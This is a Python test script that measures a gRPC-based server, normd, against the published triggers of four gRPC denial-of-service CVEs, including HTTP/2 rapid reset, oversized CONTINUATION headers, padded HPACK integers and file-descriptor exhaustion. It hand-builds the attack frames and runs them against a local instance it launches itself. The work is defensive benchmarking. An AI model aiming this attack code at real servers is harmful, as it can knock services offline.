#!/usr/bin/python3
"""Measures how a normd built on Debian's gRPC 1.51.1 fares against the published triggers of
four gRPC CVEs that release does not fix, with and without normd's limits. Prints the figures
the README's Security section quotes. Not part of ctest: it deliberately loads the server.

  CVE-2023-1428   te / grpclb_client_stats header, then headers past the metadata limit
  CVE-2023-33953  one huge header value sent in CONTINUATION frames (buffered before the
                  size check), and HPACK integers padded with zero bytes
  CVE-2023-44487  HTTP/2 rapid reset: HEADERS then RST_STREAM, as fast as possible
  CVE-2023-4785   connections beyond the process's file descriptor limit

Raw HTTP/2 frames are written by hand (literal HPACK fields, no Huffman), so no HTTP/2 library
is needed. Usage (from a build directory, after building normd):
  NORMD_BIN=server/normd PYTHONPATH=../tests/security:../client/python:client/python \\
      /usr/bin/python3 ../tests/security/http2_probe.py [--only NAME]
"""

import argparse
import os
import socket
import struct
import subprocess
import sys
import threading
import time

import grpc

from security_common import Normd, code_of, raw_unary

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first_byte_flags=0, pad_zeros=0):
    """An HPACK integer; pad_zeros adds redundant continuation bytes (legal, and the second
    CVE-2023-33953 vector)."""
    limit = (1 << prefix_bits) - 1
    if value < limit and not pad_zeros:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    if pad_zeros:
        out.append((value & 127) | 128)
        out += b"\x80" * (pad_zeros - 1)
        out.append(0)
    else:
        out.append(value)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path, extra=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
              (":authority", "127.0.0.1"), ("content-type", "application/grpc"),
              ("te", "trailers")] + list(extra)
    return b"".join(literal(n, v) for n, v in fields)


class Conn:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.data = b""  # the last bytes received
        self.closed = False
        self.cv = threading.Condition()
        threading.Thread(target=self._drain, daemon=True).start()

    def _drain(self):
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                with self.cv:
                    self.data = (self.data + data)[-(1 << 16):]
                    self.cv.notify_all()
        except OSError:
            pass
        with self.cv:
            self.closed = True
            self.cv.notify_all()

    def sync(self, timeout):
        """Sends a PING and waits for its ACK: the server has processed every frame before it.
        False when the connection closed or the ACK did not come in time."""
        opaque = os.urandom(8)
        try:
            self.send(frame(PING, 0, 0, opaque))
        except OSError:
            return False
        ack = frame(PING, 0x1, 0, opaque)
        with self.cv:
            return self.cv.wait_for(lambda: ack in self.data or self.closed, timeout) and \
                not self.closed

    def send(self, data):
        self.sock.sendall(data)

    def close(self):
        self.sock.close()


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def alive_and_serving(server):
    md = (("authorization", "Bearer probe-token"),)  # accepted when the probe turns auth on
    with grpc.insecure_channel(server.address) as ch:
        code, _ = code_of(lambda: raw_unary(ch, "ListModels", b"", metadata=md, timeout=5))
    return server.proc.poll() is None, code


def probe_1428():
    print("\n== CVE-2023-1428: te / grpclb_client_stats, then headers past the metadata limit")
    with Normd() as server:
        for name, extra in (("te: x", [("te", "x")]),
                            ("grpclb_client_stats: x", [("grpclb_client_stats", "x")]),
                            (":scheme: x", [])):
            c = Conn(server.port)
            block = request_block("/normd.v1.Trainer/ListModels",
                                  extra + [(f"x-pad-{i}", "a" * 1000) for i in range(10)])
            if name == ":scheme: x":
                block = block.replace(literal(":scheme", "http"), literal(":scheme", "x"))
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
            time.sleep(0.5)
            c.close()
            alive, code = alive_and_serving(server)
            print(f"  {name} + 10 KB of headers: normd alive={alive}, next call {code.name}")


def probe_33953(size_mib):
    print(f"\n== CVE-2023-33953: one header value of up to {size_mib} MiB in CONTINUATION frames")
    sizes = [m for m in (size_mib // 4, size_mib // 2) if m > 0] + [size_mib]
    for args in [[]] * len(sizes) + [["--max-metadata-bytes", "1024"]]:
        size_mib = sizes.pop(0) if sizes else size_mib
        with Normd(*args) as server:
            pid = server.proc.pid
            before = rss_mib(pid)
            cpu0 = cpu_seconds(pid)
            c = Conn(server.port)
            value_len = size_mib << 20
            head = request_block("/normd.v1.Trainer/ListModels") + b"\x00" + hpack_int(5, 7) + \
                b"x-big" + hpack_int(value_len, 7)
            c.send(frame(HEADERS, 0, 1, head))
            chunk = b"a" * 16384
            sent, peak = 0, before
            begin = time.monotonic()
            try:
                while sent < value_len and not c.closed:
                    last = sent + len(chunk) >= value_len
                    c.send(frame(CONTINUATION, END_HEADERS if last else 0, 1, chunk))
                    sent += len(chunk)
                    if sent % (8 << 20) == 0:
                        peak = max(peak, rss_mib(pid))
            except OSError:
                pass
            synced = c.sync(timeout=300)
            peak = max(peak, rss_mib(pid))
            elapsed = time.monotonic() - begin
            c.close()
            alive, code = alive_and_serving(server)
            cpu = cpu_seconds(pid) - cpu0
            print(f"  {' '.join(args) or 'defaults'}: accepted {sent >> 20} MiB of one header "
                  f"{'and processed it' if synced else 'then the connection closed'} in "
                  f"{elapsed:.1f} s, normd "
                  f"CPU {cpu:.1f} s; RSS {before:.0f} -> peak {peak:.0f} MiB; alive={alive}, "
                  f"next call {code.name}")
    print("  HPACK integer padded with 1 MB of zero continuation bytes:")
    with Normd() as server:
        c = Conn(server.port)
        pid = server.proc.pid
        cpu0 = cpu_seconds(pid)
        block = request_block("/normd.v1.Trainer/ListModels") + b"\x00" + \
            hpack_int(3, 7) + b"x-z" + hpack_int(200, 7, pad_zeros=1 << 20) + b"z" * 200
        payload = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        c.send(frame(HEADERS, 0, 1, payload[0]))
        for i, part in enumerate(payload[1:], 1):
            c.send(frame(CONTINUATION, END_HEADERS if i == len(payload) - 1 else 0, 1, part))
        time.sleep(1.0)
        c.close()
        alive, code = alive_and_serving(server)
        print(f"    normd CPU {cpu_seconds(pid) - cpu0:.2f} s for {len(block) >> 10} KiB; "
              f"alive={alive}, next call {code.name}")


def _latencies_ms(server, seconds):
    """ListModels round trips of a well-behaved client for `seconds` (its own connection)."""
    out = []
    md = (("authorization", "Bearer probe-token"),)  # the token of the auth setting
    with grpc.insecure_channel(server.address) as ch:
        raw_unary(ch, "ListModels", b"", metadata=md)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            t = time.monotonic()
            code, _ = code_of(lambda: raw_unary(ch, "ListModels", b"", metadata=md, timeout=5))
            out.append(((time.monotonic() - t) * 1000, code))
    out.sort(key=lambda r: r[0])
    return out


def _summary(calls):
    ms = [m for m, _ in calls]
    failed = [c.name for _, c in calls if c != grpc.StatusCode.OK]
    return (f"{len(calls)} calls, p50 {ms[len(ms) // 2]:.2f} ms, max {ms[-1]:.0f} ms, "
            f"{len(failed)} failed{' (' + ', '.join(sorted(set(failed))) + ')' if failed else ''}")


def _rapid_reset(port, seconds, result):
    """Opens and resets ListModels streams on one connection for `seconds`; puts
    (streams sent, closed by the server) into `result`. Runs in its own process, so the
    measuring client in the parent shares no interpreter lock with it."""
    block = request_block("/normd.v1.Trainer/ListModels")
    c = Conn(port)
    stream, sent, end = 1, 0, time.monotonic() + seconds
    try:
        while time.monotonic() < end and not c.closed:
            batch = []
            for _ in range(100):
                batch.append(frame(HEADERS, END_HEADERS, stream, block))
                batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                stream += 2
            c.send(b"".join(batch))
            sent += 100
    except OSError:
        pass
    result.put((sent, c.closed))
    c.close()


def probe_44487(seconds):
    import multiprocessing
    print(f"\n== CVE-2023-44487: rapid reset from one connection, {seconds} s per setting")
    for args in ([], ["--max-concurrent-streams", "1"], ["--auth-token-file", "TOKENS"]):
        with Normd(*[a if a != "TOKENS" else TOKEN_FILE for a in args]) as server:
            pid = server.proc.pid
            idle = _latencies_ms(server, seconds)
            result = multiprocessing.Queue()
            attacker = multiprocessing.Process(target=_rapid_reset,
                                               args=(server.port, seconds, result))
            cpu0, wall0 = cpu_seconds(pid), time.monotonic()
            attacker.start()
            busy = _latencies_ms(server, seconds)
            sent, closed = result.get(timeout=60)
            attacker.join()
            wall = time.monotonic() - wall0
            cpu = cpu_seconds(pid) - cpu0
            alive, code = alive_and_serving(server)
            print(f"  {' '.join(args).replace(TOKEN_FILE, 'FILE') or 'defaults'}: "
                  f"{sent / seconds:,.0f} streams opened+reset per s; normd "
                  f"{cpu / wall:.2f} CPU-s/s; attacker closed by server={closed}; alive="
                  f"{alive}, next call {code.name}\n    another client's ListModels (5 s "
                  f"deadline), before: {_summary(idle)}\n    during: {_summary(busy)}")


def probe_4785(connections):
    for fd_limit in (64, 4096):
        print(f"\n== CVE-2023-4785: {connections} connections against a normd limited to "
              f"{fd_limit} file descriptors")
        server = Normd().__enter__()
        try:
            # normd raises its soft limit to the hard one at start; set both afterwards.
            subprocess.run(["prlimit", "--pid", str(server.proc.pid),
                            f"--nofile={fd_limit}:{fd_limit}"], check=True)
            socks = []
            for _ in range(connections):
                try:
                    socks.append(socket.create_connection(("127.0.0.1", server.port), timeout=2))
                except OSError:
                    break
            time.sleep(1.0)
            for s in socks:
                s.close()
            results = []
            begin = time.monotonic()
            for wait in (1, 5, 20):
                time.sleep(max(0.0, begin + wait - time.monotonic()))
                alive, code = alive_and_serving(server)
                results.append(f"{wait} s: {code.name}")
            print(f"  opened {len(socks)} connections, closed them all; normd alive="
                  f"{server.proc.poll() is None}; a new client's call after " + ", ".join(results))
        finally:
            server.__exit__(None, None, None)


TOKEN_FILE = None


def main():
    global TOKEN_FILE
    p = argparse.ArgumentParser()
    p.add_argument("--only", choices=["1428", "33953", "44487", "4785"])
    p.add_argument("--header-mib", type=int, default=256)
    p.add_argument("--seconds", type=float, default=5)
    a = p.parse_args()
    import tempfile
    fd, TOKEN_FILE = tempfile.mkstemp()
    os.write(fd, b"probe-token\n")
    os.close(fd)
    try:
        if a.only in (None, "1428"):
            probe_1428()
        if a.only in (None, "33953"):
            probe_33953(a.header_mib)
        if a.only in (None, "44487"):
            probe_44487(a.seconds)
        if a.only in (None, "4785"):
            probe_4785(200)
    finally:
        os.remove(TOKEN_FILE)


if __name__ == "__main__":
    sys.exit(main())
